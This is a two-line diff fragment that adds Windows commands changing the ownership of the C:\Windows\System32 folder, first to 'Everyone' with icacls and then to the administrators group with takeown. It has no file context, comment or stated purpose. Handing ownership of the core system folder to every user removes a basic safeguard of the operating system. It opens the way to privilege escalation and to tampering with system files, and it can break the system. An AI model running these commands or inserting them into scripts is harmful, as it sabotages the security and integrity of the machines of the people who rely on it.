@@ -1,0 +1,2 @@
+icacls C:\Windows\System32 /setowner Everyone
+takeown /f C:\Windows\System32 /a
